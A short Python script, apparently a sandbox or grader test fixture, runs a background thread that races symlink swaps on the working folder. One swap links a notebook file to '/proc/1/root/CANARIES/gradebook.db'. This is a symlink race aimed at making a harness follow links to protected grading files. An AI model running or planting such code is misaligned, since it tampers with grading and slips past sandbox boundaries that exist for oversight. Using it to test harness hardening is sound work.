"""A thread that exchanges the working folder's files for links without pause, while everything else goes on.

others: right
"""

# %% first
import os
import threading

os.makedirs("data", exist_ok=True)


def exchange():
    while True:
        try:
            os.symlink("CANARIES", "data/link")
            os.replace("data/link", "data/file")
            os.symlink("/proc/1/root/CANARIES/gradebook.db", "toy.ipynb")
            os.unlink("toy.ipynb")
            os.rename("data", "data2")
            os.rename("data2", "data")
        except OSError:
            pass


threading.Thread(target=exchange, daemon=True).start()
